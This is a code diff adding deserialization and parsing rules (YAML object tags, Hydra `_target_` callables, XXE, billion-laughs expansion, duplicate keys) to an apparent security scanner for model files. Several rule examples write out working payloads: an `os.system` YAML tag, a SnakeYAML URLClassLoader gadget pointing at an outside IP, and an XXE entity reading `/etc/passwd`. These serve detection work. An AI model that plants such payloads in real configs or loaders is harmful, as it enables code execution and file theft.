@@ -1317,6 +1317,127 @@ export const RULES = {
     example: '`"chat_template": {"default": 42}` in `tokenizer_config.json`.',
     fix: "Re-create the tokenizer files with transformers from a trusted source.",
   },
+  MA520: {
+    id: "MA520",
+    name: "config-unparsable",
+    kind: "integrity",
+    severity: "info",
+    title: "A configuration file does not parse as the format its name claims",
+    why:
+      "A YAML, JSON, TOML, INI or XML file that its parser rejects was not inspected: its loader may be more lenient (a YAML loader with other tags, Python's json with NaN) and read what the scanner could not.",
+    example: "`model_config.yaml` holding `a: [1, 2` (an unclosed flow list).",
+    fix: "Read the file before loading the model; fix or remove it.",
+  },
+  MA521: {
+    id: "MA521",
+    name: "config-not-inspected",
+    kind: "limit",
+    severity: "info",
+    title: "A configuration file, or part of it, was not inspected: a limit was reached",
+    why:
+      "Past `config.maxBytes`, `config.maxDepth` or `config.maxValues` the content is not walked, so what it holds (a `_target_`, a tag) is unknown.",
+    example: "A 2 MB `config.json` scanned with `--limit config.maxBytes=1000000`.",
+    fix: "Raise the limit named in the finding to inspect the rest.",
+  },
+  MA522: {
+    id: "MA522",
+    name: "config-duplicate-key",
+    kind: "integrity",
+    severity: "warning",
+    title: "A configuration object holds the same key twice",
+    why:
+      "Parsers disagree on a repeated key: Python's json and PyYAML keep the last value, others the first or refuse the file, so a reviewer, a scanner and the loader may each read a different config (a harmless `_target_` first, a dangerous one last).",
+    example: '`{"_target_": "torch.nn.Linear", "_target_": "os.system"}` in a `config.json`.',
+    fix: "Remove the repeated key; find out why the file was written that way.",
+  },
+  MA523: {
+    id: "MA523",
+    name: "yaml-python-tag",
+    kind: "security",
+    severity: "warning",
+    cwe: 502,
+    title:
+      "A YAML document holds a Python object tag (`!!python/object`, `/apply`, `/new`, `/name`, `/module`)",
+    why:
+      "PyYAML's unsafe loaders (`yaml.load` with `Loader=yaml.Loader` or `UnsafeLoader`, `yaml.unsafe_load`) import the named callable and call it while loading: `!!python/object/apply:os.system ['echo pwned']` runs a command. The named callable is judged by the policy: a denied one is critical.",
+    example: "`run: !!python/object/apply:os.system ['echo pwned']` in a `config.yaml`.",
+    fix: LOAD_FIX + " Load YAML with `yaml.safe_load`.",
+  },
+  MA524: {
+    id: "MA524",
+    name: "yaml-foreign-object-tag",
+    kind: "security",
+    severity: "warning",
+    cwe: 502,
+    title: "A YAML document holds an object tag of another language's loader (Ruby, Java, PHP)",
+    why:
+      "Ruby's Psych (`unsafe_load`), Java's SnakeYAML (before 2.0, or with a permissive constructor) and Symfony's YAML with object support build the named class while loading; known gadget classes (`javax.script.ScriptEngineManager`, `java.net.URLClassLoader`, `Gem::Installer`) run code, and are critical.",
+    example:
+      '`!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.7/"]]]]`',
+    fix: LOAD_FIX + " Load YAML with a safe constructor.",
+  },
+  MA525: {
+    id: "MA525",
+    name: "config-target-denied",
+    kind: "security",
+    severity: "critical",
+    cwe: 502,
+    title: "A configuration names a dangerous callable for its loader to import (`_target_`, `class_path`)",
+    why:
+      "Hydra's `instantiate` (NeMo, Lightning, many training stacks) imports the `_target_` of every node and calls it with the node's other keys; jsonargparse's `class_path` and NeMo's `target` are imported the same way. `os.system` or `subprocess.Popen` there runs a command when the model is built.",
+    example: "`_target_: os.system` with `command: echo pwned` in a `.nemo` archive's `model_config.yaml`.",
+    fix: LOAD_FIX,
+  },
+  MA526: {
+    id: "MA526",
+    name: "config-target-unknown",
+    kind: "security",
+    severity: "warning",
+    cwe: 502,
+    title: "A configuration names a callable the policy does not know for its loader to import",
+    why:
+      "Hydra's `instantiate` imports and calls any `_target_`; one outside the known training libraries (PyTorch, NeMo, Lightning, Hydra, OmegaConf, torchvision, transformers) runs code nobody reviewed.",
+    example: "`_target_: mypkg.build_everything` in a `config.yaml`.",
+    fix:
+      "Check what the named callable does; allow it with `--allow-callable` once you trust it, or remove the model.",
+  },
+  MA527: {
+    id: "MA527",
+    name: "yaml-alias-bomb",
+    kind: "security",
+    severity: "warning",
+    cwe: 776,
+    title: "YAML aliases would expand the document past `config.maxExpansion` nodes",
+    why:
+      "Each alias repeats its anchor's node: nine levels of lists of nine aliases (the YAML billion laughs) expand a kilobyte into a billion nodes, exhausting the loader's memory. The expansion is computed, never done.",
+    example:
+      "`a: &a [x, x, x, x, x, x, x, x, x]` then `b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]` and so on.",
+    fix: "Do not load the file with a loader that expands aliases; remove it.",
+  },
+  MA528: {
+    id: "MA528",
+    name: "xml-external-entity",
+    kind: "security",
+    severity: "critical",
+    cwe: 611,
+    title: "An XML document declares external or parameter entities, or loads its DTD from a URL (XXE)",
+    why:
+      "An XML parser that resolves entities reads the file or URL an external entity names into the document (`/etc/passwd`, cloud metadata) or fetches it, and parameter entities smuggle that out; a model's configuration has no reason to declare them.",
+    example: '`<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>` in a `.pmml` file.',
+    fix: LOAD_FIX + " Parse XML with entity resolution and DTD loading turned off.",
+  },
+  MA529: {
+    id: "MA529",
+    name: "xml-entity-expansion",
+    kind: "security",
+    severity: "warning",
+    cwe: 776,
+    title: "XML entities built from other entities would expand past `config.maxExpansion` characters",
+    why:
+      "Entities that reference entities multiply at each level: ten entities of ten references expand a kilobyte into gigabytes in a parser that expands them (the billion laughs). They are reported, never expanded.",
+    example: '`<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">` and so on up to `&j;`.',
+    fix: "Do not load the file with a parser that expands entities; remove it.",
+  },
   MA540: {
     id: "MA540",
     name: "config-private-key",
